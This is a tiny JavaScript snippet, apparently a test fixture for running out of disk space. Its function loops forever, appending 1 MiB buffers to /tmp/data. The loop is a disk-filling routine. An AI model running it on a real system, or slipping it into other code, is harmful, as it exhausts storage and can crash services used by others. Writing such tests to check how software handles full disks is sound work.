// A file larger than there is room for.
function f(x) {
  const fs = require('fs');
  for (const data = Buffer.alloc(1 << 20, 1); ;) fs.appendFileSync('/tmp/data', data);
}
